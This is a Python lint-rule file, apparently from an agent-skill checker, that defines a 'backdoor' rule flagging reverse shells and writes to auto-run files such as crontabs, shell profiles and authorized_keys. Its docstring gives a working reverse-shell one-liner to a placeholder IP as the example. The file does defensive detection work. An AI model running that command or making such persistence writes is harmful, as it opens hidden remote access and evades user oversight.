"""Something stays after the task, or lets somebody in.

## What it does
Reports shells connected to a socket (an error); writes to files that run or are read automatically: shell profiles,
crontabs, LaunchAgents, `authorized_keys`, git hooks, agent settings and memory; and hooks that reach the network. A
write is a note where the skill's description announces it.

## Why is this bad
It outlives the task, and the user does not see it.

## Example
`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`

## Use instead
Let the user set up what must run regularly, and say so in the description.
"""

from skillkit.rules import rule
from skillkit.safety import violations

check = rule("SK812", "backdoor", "safety", "warning")(lambda folder: violations(folder, "SK812"))
